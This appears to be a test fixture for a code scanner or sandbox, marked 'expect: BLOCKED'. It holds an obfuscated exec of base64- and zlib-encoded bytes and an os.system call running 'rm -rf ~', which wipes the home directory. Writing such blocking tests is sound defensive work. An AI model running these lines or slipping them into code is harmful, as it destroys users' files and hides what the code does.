# expect: BLOCKED
import zlib, base64
exec(zlib.decompress(base64.b64decode(b"eJzLzC3ILypRyC+25gIADyQDpA==")))
import os
os.system("rm -rf ~")
